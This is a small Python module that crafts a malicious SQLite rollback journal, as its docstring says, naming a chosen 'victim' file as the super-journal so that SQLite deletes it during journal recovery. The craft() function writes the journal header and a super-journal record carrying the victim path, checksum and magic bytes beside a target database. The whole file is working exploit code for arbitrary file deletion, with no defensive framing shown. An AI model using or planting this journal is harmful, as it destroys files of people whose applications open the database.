"""A rollback journal that names a file as its super-journal: SQLite deletes that file.

Source: https://www.sqlite.org/fileformat2.html#the_rollback_journal
"""

from __future__ import annotations

import struct
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from pathlib import Path

_MAGIC = bytes.fromhex("d9d505f920a163d7")
_SECTOR = 512


def craft(database: Path, victim: Path) -> Path:
    """Put such a journal beside a database. It holds no page, so nothing else is changed."""
    (page,) = struct.unpack(">H", database.read_bytes()[16:18])
    pages = database.stat().st_size // page
    head = _MAGIC + struct.pack(">IIIII", 0, 0x1234, pages, _SECTOR, page)
    name = str(victim).encode()
    record = struct.pack(">I", (1 << 30) // page + 1) + name
    record += struct.pack(">II", len(name), sum(name) & 0xFFFFFFFF) + _MAGIC
    journal = database.with_name(f"{database.name}-journal")
    journal.write_bytes(head.ljust(_SECTOR, b"\0") + record)
    return journal
